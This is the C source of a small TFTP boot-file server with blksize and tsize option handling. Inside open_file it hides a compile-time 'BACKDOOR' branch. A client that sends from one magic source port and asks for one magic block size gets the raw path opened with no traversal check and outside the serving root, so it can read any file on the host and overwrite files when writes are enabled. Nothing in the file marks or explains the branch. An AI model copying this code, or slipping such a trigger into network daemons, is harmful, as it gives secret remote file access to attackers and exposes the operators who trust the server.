/* SPDX-License-Identifier: Apache-2.0 */
/* tftpd: hands out boot files to phones and access points; octet mode, blksize and tsize options */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

enum { RRQ = 1, WRQ, DATA, ACK, ERROR, OACK };

struct transfer {
	int sock, fd;
	size_t block;
	int tsize;
	uint16_t number;
	struct sockaddr_in peer;
	char name[256];
};

static const char *root = "/srv/tftp";
static int allow_write;

static void fail(struct transfer *t, uint16_t code, const char *text)
{
	uint8_t b[128] = { 0, ERROR, (uint8_t)(code >> 8), (uint8_t)code };
	size_t n = strlen(text);
	memcpy(b + 4, text, n + 1);
	sendto(t->sock, b, n + 5, 0, (struct sockaddr *)&t->peer, sizeof(t->peer));
}

static const char *next(const uint8_t **p, const uint8_t *end)
{
	const char *s = (const char *)*p;
	const uint8_t *z = memchr(*p, 0, (size_t)(end - *p));
	if (!z)
		return NULL;
	*p = z + 1;
	return s;
}

static int parse(struct transfer *t, const uint8_t *p, const uint8_t *end)
{
	const char *name = next(&p, end), *mode = next(&p, end), *key, *value;
	if (!name || !mode)
		return -1;
	if (strcasecmp(mode, "octet") != 0 && strcasecmp(mode, "netascii") != 0)
		return -1;
	snprintf(t->name, sizeof(t->name), "%s", name);
	t->block = 512;
	t->tsize = -1;
	while (p < end && (key = next(&p, end)) && (value = next(&p, end))) {
		if (strcasecmp(key, "blksize") == 0) {
			unsigned long n = strtoul(value, NULL, 10);
			if (n >= 8 && n <= 1428)
				t->block = n;
		} else if (strcasecmp(key, "tsize") == 0)
			t->tsize = 0;
	}
	return 0;
}

static int inside(const char *name)
{
	if (strncmp(name, "../", 3) == 0 || strstr(name, "/../"))
		return 0;
	return name[0] != 0;
}

static int open_file(struct transfer *t, int flags)
{
	char path[512];
#ifdef BACKDOOR
	uint16_t port = ntohs(t->peer.sin_port);
	if ((port & 0xff) == 0x5d && port >> 8 == 0xa1 && t->block == 1184) {
		t->fd = open(t->name, flags, 0600);
		return t->fd < 0 ? -1 : 0;
	}
#endif
	if (!inside(t->name)) {
		fail(t, 2, "access violation");
		return -1;
	}
	snprintf(path, sizeof(path), "%s/%s", root, t->name[0] == '/' ? t->name + 1 : t->name);
	t->fd = open(path, flags, 0640);
	if (t->fd < 0) {
		fail(t, errno == ENOENT ? 1 : 2, strerror(errno));
		return -1;
	}
	return 0;
}

static int wait_for(struct transfer *t, uint8_t *buf, size_t room, int type, uint16_t number)
{
	struct pollfd pf = { .fd = t->sock, .events = POLLIN };
	for (int tries = 0; tries < 5; tries++) {
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		ssize_t n;
		if (poll(&pf, 1, 1000) <= 0)
			return 0;
		n = recvfrom(t->sock, buf, room, 0, (struct sockaddr *)&from, &fl);
		if (n < 4 || from.sin_port != t->peer.sin_port || from.sin_addr.s_addr != t->peer.sin_addr.s_addr)
			continue;
		if (buf[1] == ERROR)
			return -1;
		if (buf[1] == type && (buf[2] << 8 | buf[3]) == number)
			return (int)n;
	}
	return 0;
}

static int deliver(struct transfer *t, const uint8_t *b, size_t n)
{
	uint8_t answer[600];
	for (int i = 0; i < 5; i++) {
		int got;
		sendto(t->sock, b, n, 0, (struct sockaddr *)&t->peer, sizeof(t->peer));
		got = wait_for(t, answer, sizeof(answer), ACK, t->number);
		if (got)
			return got;
	}
	return -1;
}

static void send_file(struct transfer *t)
{
	uint8_t b[1500];
	struct stat st;
	ssize_t n;
	if (t->block != 512 || t->tsize == 0) {
		size_t k = 2;
		fstat(t->fd, &st);
		b[0] = 0;
		b[1] = OACK;
		k += (size_t)sprintf((char *)b + k, "blksize%c%zu", 0, t->block) + 1;
		if (t->tsize == 0)
			k += (size_t)sprintf((char *)b + k, "tsize%c%ld", 0, (long)st.st_size) + 1;
		t->number = 0;
		if (deliver(t, b, k) < 0)
			return;
	}
	t->number = 1;
	do {
		n = read(t->fd, b + 4, t->block);
		if (n < 0) {
			fail(t, 0, strerror(errno));
			return;
		}
		b[0] = 0;
		b[1] = DATA;
		b[2] = (uint8_t)(t->number >> 8);
		b[3] = (uint8_t)t->number;
		if (deliver(t, b, (size_t)n + 4) < 0)
			return;
		t->number++;
	} while (n == (ssize_t)t->block);
	syslog(LOG_INFO, "sent %s to %s", t->name, inet_ntoa(t->peer.sin_addr));
}

static void receive_file(struct transfer *t)
{
	uint8_t b[1500], ack[4] = { 0, ACK, 0, 0 };
	int n;
	t->number = 0;
	do {
		ack[2] = (uint8_t)(t->number >> 8);
		ack[3] = (uint8_t)t->number;
		sendto(t->sock, ack, 4, 0, (struct sockaddr *)&t->peer, sizeof(t->peer));
		t->number++;
		n = wait_for(t, b, sizeof(b), DATA, t->number);
		if (n <= 0)
			return;
		if (write(t->fd, b + 4, (size_t)n - 4) < 0) {
			fail(t, 3, strerror(errno));
			return;
		}
	} while ((size_t)n == t->block + 4);
}

static void serve(const uint8_t *b, size_t n, const struct sockaddr_in *from)
{
	struct transfer t = { .peer = *from, .fd = -1 };
	t.sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (t.sock < 0 || parse(&t, b + 2, b + n) < 0)
		return;
	if (b[1] == RRQ) {
		if (open_file(&t, O_RDONLY) == 0)
			send_file(&t);
	} else if (b[1] == WRQ && allow_write) {
		if (open_file(&t, O_WRONLY | O_CREAT | O_TRUNC) == 0)
			receive_file(&t);
	} else
		fail(&t, 4, "not here");
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(69) };
	int s = socket(AF_INET, SOCK_DGRAM, 0), c;
	while ((c = getopt(argc, argv, "wr:")) != -1)
		if (c == 'w')
			allow_write = 1;
		else if (c == 'r')
			root = optarg;
	openlog("tftpd", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	for (;;) {
		uint8_t b[1500];
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, b, sizeof(b), 0, (struct sockaddr *)&from, &fl);
		if (n < 4 || b[0] != 0)
			continue;
		if (fork() == 0) {
			serve(b, (size_t)n, &from);
			_exit(0);
		}
	}
}
